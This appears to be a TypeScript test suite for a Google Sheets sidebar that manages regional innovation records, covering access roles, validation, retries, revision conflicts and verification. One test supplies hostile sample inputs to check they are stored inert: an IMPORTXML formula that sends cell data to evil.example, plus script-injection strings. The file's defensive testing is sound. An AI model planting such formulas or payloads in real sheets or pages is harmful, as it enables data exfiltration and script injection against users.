// The sidebar's server calls through dist/Code.js in the emulator: identity and roles, validation,
// idempotent retries, revision conflicts, inert text, dates, call counts.
import { describe, expect, it } from 'vitest';
import type { Innovation } from '../../src/core/model';
import type { Harness } from '../../src/emulator/harness';
import type {
  InnovationDetail,
  InnovationSummary,
  Result,
  SaveResult,
  SidebarContext,
} from '../../src/shared/api';
import { completeInnovation, draftInnovation } from './fixtures';
import {
  ADMIN,
  addUsers,
  BOSS,
  columnValues,
  DINKES_OP,
  DINKES_OP2,
  DINSOS_OP,
  INACTIVE,
  newKey,
  STRANGER,
  save,
  seedInnovations,
  setUp,
  tabValues,
  VERIFIER,
} from './support';

type List = Result<{ items: InnovationSummary[] }>;
type Detail = Result<{ detail: InnovationDetail }>;

function ok<T extends { ok: boolean }>(r: T): Extract<T, { ok: true }> {
  if (!r.ok) throw new Error(`expected ok, got ${JSON.stringify(r)}`);
  return r as Extract<T, { ok: true }>;
}

function detail(h: Harness, id: string): InnovationDetail {
  return ok(h.call<Detail>('getInnovation', id)).detail;
}

/** Everything the spreadsheet holds, to prove a refused call changed nothing. */
function snapshot(h: Harness): string {
  return JSON.stringify(h.spreadsheet.getSheets().map((s) => [s.getName(), s.getDataRange().getValues()]));
}

function row(h: Harness, tab: string, id: string): Record<string, unknown> {
  const values = tabValues(h, tab);
  const header = values[1] as string[];
  const line = values.find((r) => r[header.indexOf('ID')] === id);
  if (!line) throw new Error(`no row ${id} in ${tab}`);
  return Object.fromEntries(header.map((k, i) => [k, line[i]]));
}

describe('identity and roles', () => {
  it('tells an operator who they are and gives them the rubric', () => {
    const h = setUp();
    h.setUser(DINKES_OP);
    const ctx = h.call<SidebarContext>('getContext');
    expect(ctx).toMatchObject({
      email: DINKES_OP,
      role: 'operator',
      opd: { code: 'DINKES', name: 'Dinas Kesehatan' },
      readOnlyReason: null,
      opds: [{ code: 'DINKES', name: 'Dinas Kesehatan' }],
      regencyName: 'Kabupaten Majene',
    });
    expect((ctx.rubric as { id: string }).id).toBe('iid-2027');
    h.setUser(VERIFIER);
    expect(h.call<SidebarContext>('getContext').opds.length).toBe(25);
  });

  it('gives empty and unknown identities read-only access with a clear message', () => {
    const h = setUp();
    h.setUser(DINKES_OP);
    const id = ok(save(h, completeInnovation('DINKES'))).id;
    for (const user of ['', STRANGER]) {
      h.setUser(user);
      const ctx = h.call<SidebarContext>('getContext');
      expect(ctx.role).toBeNull();
      expect(ctx.readOnlyReason).toMatch(
        user ? /belum terdaftar di tab Pengguna/ : /tidak memberi tahu alamat email/,
      );
      expect(ok(h.call<List>('listInnovations')).items).toEqual([]);
      expect(h.call<Detail>('getInnovation', id).ok).toBe(false);
      const before = snapshot(h);
      const r = save(h, completeInnovation('DINKES'));
      expect(r.ok).toBe(false);
      expect(!r.ok && r.message).toBe(ctx.readOnlyReason);
      expect(snapshot(h)).toBe(before);
    }
  });

  it('refuses an inactive user entirely', () => {
    const h = setUp();
    h.setUser(INACTIVE);
    expect(h.call<SidebarContext>('getContext')).toMatchObject({
      role: null,
      readOnlyReason: expect.stringMatching(/dinonaktifkan/),
    });
    expect(h.call<List>('listInnovations')).toMatchObject({
      ok: false,
      message: expect.stringMatching(/dinonaktifkan/),
    });
    expect(save(h, completeInnovation('DINKES')).ok).toBe(false);
  });

  it('keeps an operator inside their own OPD whatever the request says', () => {
    const h = setUp();
    h.setUser(DINSOS_OP);
    const dinsosId = ok(save(h, completeInnovation('DINSOS', 'Bansos Tepat'))).id;
    h.setUser(DINKES_OP);
    const own = ok(save(h, completeInnovation('DINKES'))).id;
    const before = snapshot(h);
    const other = save(h, completeInnovation('DINSOS', 'Menyusup'));
    expect(other).toMatchObject({
      ok: false,
      message: expect.stringContaining('hanya dapat membuka atau menyimpan inovasi OPD DINKES'),
    });
    const edit = save(h, { ...completeInnovation('DINKES'), id: dinsosId }, { baseRevision: 1 });
    expect(edit).toMatchObject({ ok: false, message: expect.stringContaining('tidak ditemukan') });
    expect(snapshot(h)).toBe(before);
    expect(h.call<Detail>('getInnovation', dinsosId)).toMatchObject({ ok: false });
    const list = ok(h.call<List>('listInnovations', { opd: 'DINSOS' })).items;
    expect(list.map((i) => i.id)).toEqual([own]);
    // The pimpinan reads everything but writes nothing; the admin writes for any OPD.
    h.setUser(BOSS);
    expect(ok(h.call<List>('listInnovations')).items).toHaveLength(2);
    expect(save(h, completeInnovation('DINSOS')).ok).toBe(false);
    h.setUser(ADMIN);
    expect(ok(h.call<List>('listInnovations', { opd: 'DINSOS' })).items.map((i) => i.id)).toEqual([dinsosId]);
    expect(ok(save(h, completeInnovation('DINSOS', 'Oleh admin'))).id).toMatch(/^DINSOS-/);
    expect(save(h, completeInnovation('DINAS_X'))).toMatchObject({
      ok: false,
      message: expect.stringContaining('DINAS_X'),
    });
    expect(save(h, completeInnovation(''))).toMatchObject({
      ok: false,
      message: expect.stringContaining('Pilih OPD'),
    });
  });
});

describe('saveInnovation', () => {
  it('stores a row with meta, revision, fingerprint and who/when', () => {
    const h = setUp();
    h.setUser(DINKES_OP);
    const first = ok(save(h, completeInnovation('DINKES')));
    expect(first).toMatchObject({ revision: 1, status: 'draft', message: 'Tersimpan sebagai draf.' });
    const r1 = row(h, 'Inovasi DINKES', first.id);
    expect(r1).toMatchObject({
      Revisi: 1,
      Status: 'Draf',
      'Dibuat oleh': DINKES_OP,
      'Diubah oleh': DINKES_OP,
    });
    expect(r1['Sidik jari']).toMatch(/^[0-9a-f]{16}$/);
    // A real date-time, shown in WITA with a day-first format (not UTC ISO text).
    expect(r1['Dibuat pada']).toBeInstanceOf(Date);
    const made = h.spreadsheet
      .getSheetByName('Inovasi DINKES')!
      .getRange(3, tabValues(h, 'Inovasi DINKES')[1]!.indexOf('Dibuat pada') + 1);
    expect(made.getNumberFormat()).toBe('dd/mm/yyyy hh:mm');
    expect(made.getDisplayValue()).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
    expect(r1.Segel).toMatch(/^s1\.[0-9a-f]{36}$/);
    h.setUser(DINKES_OP2);
    const second = ok(
      save(
        h,
        { ...completeInnovation('DINKES', 'Nama baru'), id: first.id },
        { baseRevision: 1, submit: true },
      ),
    );
    expect(second).toMatchObject({
      id: first.id,
      revision: 2,
      status: 'submitted',
      message: 'Inovasi diajukan untuk verifikasi.',
    });
    const r2 = row(h, 'Inovasi DINKES', first.id);
    expect(r2).toMatchObject({
      Revisi: 2,
      Status: 'Diajukan',
      'Dibuat oleh': DINKES_OP,
      'Diubah oleh': DINKES_OP2,
      'Nama inovasi': 'Nama baru',
    });
    expect(r2['Dibuat pada']).toEqual(r1['Dibuat pada']);
    expect(r2['Sidik jari']).not.toBe(r1['Sidik jari']);
    expect(tabValues(h, 'Inovasi DINKES').slice(2)).toHaveLength(1);
  });

  it('answers bad input with messages in Bahasa Indonesia at the field, and changes nothing', () => {
    const h = setUp();
    h.setUser(DINKES_OP);
    const before = snapshot(h);
    const missing = save(
      h,
      { ...completeInnovation('DINKES'), design: '', initiator: undefined },
      { submit: true },
    );
    expect(missing.ok).toBe(false);
    expect(!missing.ok && missing.fieldErrors?.map((e) => e.path)).toEqual(
      expect.arrayContaining(['design', 'initiator']),
    );
    expect(!missing.ok && missing.message).toMatch(/isian yang perlu diperbaiki/);
    const noName = save(h, draftInnovation('DINKES', ''));
    expect(!noName.ok && noName.fieldErrors?.[0]).toMatchObject({
      path: 'name',
      message: expect.stringMatching(/wajib/i),
    });
    const wrongTypes = save(h, {
      ...draftInnovation('DINKES', 'x'),
      stage: 5,
      indicators: { '16': { level: 9 } },
    } as unknown as Innovation);
    expect(!wrongTypes.ok && wrongTypes.fieldErrors?.map((e) => e.path)).toEqual(
      expect.arrayContaining(['stage', 'indicators.16.level']),
    );
    const tooLong = save(h, { ...draftInnovation('DINKES', 'x'.repeat(201)), goal: 'y'.repeat(60_000) });
    expect(!tooLong.ok && tooLong.fieldErrors?.map((e) => e.path)).toEqual(
      expect.arrayContaining(['name', 'goal']),
    );
    const badTheme = save(h, { ...draftInnovation('DINKES', 'x'), theme: 'tema_karangan' });
    expect(!badTheme.ok && badTheme.fieldErrors).toEqual([
      { path: 'theme', message: expect.stringContaining('tema_karangan') },
    ]);
    const badUrl = save(h, {
      ...draftInnovation('DINKES', 'x'),
      indicators: { '16': { level: 1, evidence: 'javascript:alert(1)' } },
    });
    expect(!badUrl.ok && badUrl.fieldErrors?.[0]?.path).toBe('indicators.16.evidence');
    for (const bad of [
      null,
      {},
      { idempotencyKey: 'k', submit: false, innovation: {} },
      { idempotencyKey: 'abcdefgh', submit: 'ya', innovation: {} },
    ]) {
      expect(h.call<SaveResult>('saveInnovation', bad)).toMatchObject({
        ok: false,
        message: expect.stringContaining('Permintaan simpan'),
      });
    }
    expect(snapshot(h)).toBe(before);
  });

  it('returns the first result for a retried request and never writes a second row', () => {
    const h = setUp();
    h.setUser(DINKES_OP);
    const request = { idempotencyKey: newKey(), submit: true, innovation: completeInnovation('DINKES') };
    const first = ok(h.call<SaveResult>('saveInnovation', request));
    const retry = ok(h.call<SaveResult>('saveInnovation', request));
    expect(retry).toMatchObject({ id: first.id, revision: 1, status: 'submitted' });
    expect(retry.message).toMatch(/Sudah tersimpan/);
    // An edit later, then the old creation request arrives once more: still one row, not reverted.
    ok(save(h, { ...completeInnovation('DINKES', 'Diubah'), id: first.id }, { baseRevision: 1 }));
    expect(ok(h.call<SaveResult>('saveInnovation', request))).toMatchObject({ id: first.id, revision: 2 });
    expect(columnValues(h, 'Inovasi DINKES', 'ID')).toEqual([first.id]);
    expect(detail(h, first.id).innovation.name).toBe('Diubah');
    // A retried edit is answered the same way.
    const edit = {
      idempotencyKey: newKey(),
      submit: true,
      baseRevision: 2,
      innovation: { ...completeInnovation('DINKES', 'Lagi'), id: first.id },
    };
    expect(ok(h.call<SaveResult>('saveInnovation', edit)).revision).toBe(3);
    expect(ok(h.call<SaveResult>('saveInnovation', edit)).revision).toBe(3);
    expect(detail(h, first.id).revision).toBe(3);
  });

  it('refuses a save based on an older revision, naming who changed it and when', () => {
    const h = setUp();
    h.setUser(DINKES_OP);
    const id = ok(save(h, completeInnovation('DINKES', 'Awal'))).id;
    ok(save(h, { ...completeInnovation('DINKES', 'Versi operator 1'), id }, { baseRevision: 1 }));
    h.setUser(DINKES_OP2);
    const before = snapshot(h);
    const stale = save(h, { ...completeInnovation('DINKES', 'Versi operator 2'), id }, { baseRevision: 1 });
    expect(stale).toMatchObject({ ok: false, conflict: true });
    expect(!stale.ok && stale.message).toMatch(
      new RegExp(
        `diubah oleh ${DINKES_OP.replace('.', '\\.')} pada \\d{2}/\\d{2}/\\d{4} \\d{2}\\.\\d{2} WITA`,
      ),
    );
    expect(snapshot(h)).toBe(before);
    expect(detail(h, id).innovation.name).toBe('Versi operator 1');
  });

  it('stores formula-like and HTML text inert, exactly as typed', () => {
    const h = setUp();
    h.setUser(DINKES_OP);
    const texts = {
      name: '=IMPORTXML("https://evil.example/?d="&A1,"//a")',
      goal: '<script>alert("x")</script><img src=x onerror=alert(1)>',
      benefit: '+6281234567890 hubungi kami',
      result: '-50% waktu tunggu',
      initiatorName: '@dr.andi',
      design: `=HYPERLINK("https://x.example","klik") ${completeInnovation('DINKES').design}`,
    };
    const saved = ok(save(h, { ...completeInnovation('DINKES'), ...texts }, { submit: true }));
    const sheet = h.spreadsheet.getSheetByName('Inovasi DINKES')!;
    const header = sheet.getRange(2, 1, 1, sheet.getLastColumn()).getValues()[0] as string[];
    const headers: Record<string, string> = {
      name: 'Nama inovasi',
      goal: 'Tujuan',
      benefit: 'Manfaat',
      result: 'Hasil',
      initiatorName: 'Nama inisiator',
      design: 'Rancang bangun',
    };
    for (const [key, value] of Object.entries(texts)) {
      const cell = sheet.getRange(3, header.indexOf(headers[key]!) + 1);
      expect(cell.getFormula(), key).toBe('');
      expect(cell.getValue(), key).toBe(value);
    }
    const back = detail(h, saved.id).innovation;
    expect(Object.fromEntries(Object.keys(texts).map((k) => [k, back[k as keyof Innovation]]))).toEqual(
      texts,
    );
    // Even where the plain-text format was lost (pasted formats), the text stays text.
    sheet.getRange(3, 1, 2, sheet.getLastColumn()).setNumberFormat('General');
    ok(
      save(h, { ...completeInnovation('DINKES'), ...texts, id: saved.id }, { baseRevision: 1, submit: true }),
    );
    const cell = sheet.getRange(3, header.indexOf('Nama inovasi') + 1);
    expect([cell.getFormula(), cell.getValue()]).toEqual(['', texts.name]);
    expect(detail(h, saved.id).innovation.name).toBe(texts.name);
  });

  it('carries dates across google.script.run as ISO strings, also dates typed into the sheet', () => {
    const h = setUp();
    h.setUser(DINKES_OP);
    const id = ok(save(h, completeInnovation('DINKES'))).id;
    const d = detail(h, id);
    expect(d.innovation.trialDate).toBe('2025-01-15');
    expect(d.innovation.indicators['16']?.letterDate).toBe('2025-03-17');
    expect(d.updatedAt).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    const sheet = h.spreadsheet.getSheetByName('Inovasi DINKES')!;
    const header = sheet.getRange(2, 1, 1, sheet.getLastColumn()).getValues()[0] as string[];
    const trial = sheet.getRange(3, header.indexOf('Waktu uji coba') + 1);
    expect(trial.getValue()).toBe('2025-01-15');
    // Someone types a real date where the text format was lost: it still arrives as ISO text.
    trial.setNumberFormat('dd/MM/yyyy');
    trial.setValue('20/02/2025');
    expect(Object.prototype.toString.call(trial.getValue())).toBe('[object Date]');
    expect(detail(h, id).innovation.trialDate).toBe('2025-02-20');
  });

  it('gives up cleanly when the lock is busy, the tab needs repair or access was not synced', () => {
    const h = setUp();
    h.setUser(DINKES_OP);
    const id = ok(save(h, completeInnovation('DINKES'))).id;
    const release = h.holdLock('document');
    const before = snapshot(h);
    expect(save(h, { ...completeInnovation('DINKES', 'x'), id }, { baseRevision: 1 })).toMatchObject({
      ok: false,
      message: expect.stringContaining('sedang dipakai banyak orang'),
    });
    expect(snapshot(h)).toBe(before);
    release();

    const sheet = h.spreadsheet.getSheetByName('Inovasi DINKES')!;
    sheet.getRange('A2:B2').setValues([['Revisi', 'ID']]);
    const repair = snapshot(h);
    expect(save(h, { ...completeInnovation('DINKES', 'x'), id }, { baseRevision: 1 })).toMatchObject({
      ok: false,
      message: expect.stringContaining('Siapkan/perbaiki spreadsheet'),
    });
    expect(snapshot(h)).toBe(repair);

    const newcomer = 'baru@majenekab.go.id';
    addUsers(h, [[newcomer, 'Baru', 'Operator', 'DINSOS', true]]);
    h.setUser(newcomer);
    expect(save(h, completeInnovation('DINSOS'))).toMatchObject({
      ok: false,
      message: expect.stringContaining('Sinkronkan akses'),
    });
    expect(tabValues(h, 'Inovasi DINSOS').slice(2)).toEqual([]);
  });

  it('keeps a save to a handful of Sheets calls, whatever the number of rows', () => {
    const h = setUp();
    h.setUser(DINKES_OP);
    const count = (label: string) => {
      const calls = h.measure(() => ok(save(h, completeInnovation('DINKES', label), { submit: true })));
      return Object.values(calls).reduce((a, b) => a + b, 0);
    };
    const small = count('pertama');
    seedInnovations(h, { code: 'DINKES', name: 'Dinas Kesehatan' }, 400);
    const large = count('setelah 400 baris');
    expect(small).toBeLessThanOrEqual(32);
    expect(large).toBe(small);
  });
});

describe('verification', () => {
  it('returns with notes, goes stale after an edit, verifies, and refuses stale requests', () => {
    const h = setUp();
    h.setUser(DINKES_OP);
    const id = ok(save(h, completeInnovation('DINKES'), { submit: true })).id;
    const draftId = ok(save(h, completeInnovation('DINKES', 'Masih draf'))).id;
    expect(
      h.call<Result<{ status: string }>>('saveVerification', {
        id,
        revision: 1,
        decision: 'verified',
        indicators: {},
        notes: {},
        note: '',
      }),
    ).toMatchObject({ ok: false });

    h.setUser(VERIFIER);
    const queue = ok(h.call<List>('listForVerification')).items;
    expect(queue.map((i) => [i.id, i.status])).toEqual([[id, 'submitted']]);
    const verdict = {
      id,
      revision: 1,
      decision: 'returned' as const,
      indicators: { '16': 'rejected' as const, '17': 'accepted' as const },
      notes: {},
      note: '',
    };
    const noNote = h.call<Result<object>>('saveVerification', verdict);
    expect(!noNote.ok && noNote.fieldErrors?.[0]?.path).toBe('note');
    const returned = h.call<Result<{ status: string }>>('saveVerification', {
      ...verdict,
      notes: { '16': 'SK belum ditandatangani' },
    });
    expect(returned).toMatchObject({ ok: true, status: 'returned' });
    expect(
      h.call<Result<object>>('saveVerification', { ...verdict, id: draftId, notes: { '16': 'x' } }),
    ).toMatchObject({ ok: false, message: expect.stringContaining('masih draf') });
    const vrow = row(h, 'Verifikasi', id);
    expect(vrow).toMatchObject({
      OPD: 'DINKES',
      'Revisi diperiksa': 1,
      Keputusan: 'Perlu Perbaikan',
      '16 Putusan': 'Ditolak',
      '16 Catatan verifikator': 'SK belum ditandatangani',
      'Diverifikasi oleh': VERIFIER,
    });
    expect(vrow['Sidik jari diperiksa']).toBe(row(h, 'Inovasi DINKES', id)['Sidik jari']);

    h.setUser(DINKES_OP);
    const seen = detail(h, id);
    expect(seen.status).toBe('returned');
    expect(seen.verification).toMatchObject({
      status: 'returned',
      stale: false,
      notes: { '16': 'SK belum ditandatangani' },
      indicators: { '16': 'rejected' },
    });
    const fixed = ok(
      save(
        h,
        { ...completeInnovation('DINKES'), id, goal: 'Tujuan diperbaiki' },
        { baseRevision: 1, submit: true },
      ),
    );
    expect(fixed.status).toBe('reverify');

    h.setUser(VERIFIER);
    const stale = h.call<Result<object>>('saveVerification', { ...verdict, decision: 'verified', notes: {} });
    expect(stale).toMatchObject({ ok: false, conflict: true, message: expect.stringContaining(DINKES_OP) });
    expect(ok(h.call<List>('listForVerification')).items.map((i) => i.status)).toEqual(['reverify']);
    const verified = h.call<Result<{ status: string }>>('saveVerification', {
      ...verdict,
      revision: 2,
      decision: 'verified',
      indicators: { '16': 'accepted' },
      notes: {},
    });
    expect(verified).toMatchObject({ ok: true, status: 'verified' });
    expect(tabValues(h, 'Verifikasi').slice(2)).toHaveLength(1);
    expect(detail(h, id).verification).toMatchObject({
      status: 'verified',
      stale: false,
      indicators: { '16': 'accepted' },
    });

    // An operator's later edit makes the verification stale by itself: nobody writes Verifikasi.
    h.setUser(DINKES_OP);
    const edited = ok(
      save(
        h,
        { ...completeInnovation('DINKES'), id, benefit: 'Manfaat baru' },
        { baseRevision: 2, submit: true },
      ),
    );
    expect(edited.status).toBe('reverify');
    expect(detail(h, id).verification).toMatchObject({ status: 'verified', stale: true });
    const summary = ok(h.call<List>('listInnovations')).items.find((i) => i.id === id);
    expect(summary?.status).toBe('reverify');
  });

  it('is for verifikators and admins only', () => {
    const h = setUp();
    h.setUser(DINKES_OP);
    const id = ok(save(h, completeInnovation('DINKES'), { submit: true })).id;
    const request = { id, revision: 1, decision: 'verified', indicators: {}, notes: {}, note: '' };
    for (const user of [DINKES_OP, BOSS, STRANGER, '']) {
      h.setUser(user);
      expect(h.call<Result<object>>('saveVerification', request).ok, user).toBe(false);
      expect(h.call<Result<object>>('listForVerification').ok, user).toBe(false);
    }
    h.setUser(ADMIN);
    expect(h.call<Result<object>>('saveVerification', request)).toMatchObject({ ok: true });
    h.setUser(VERIFIER);
    expect(
      h.call<Result<object>>('saveVerification', { ...request, indicators: { '99': 'accepted' } }),
    ).toMatchObject({ ok: false, fieldErrors: [{ path: 'indicators.99' }] });
  });
});
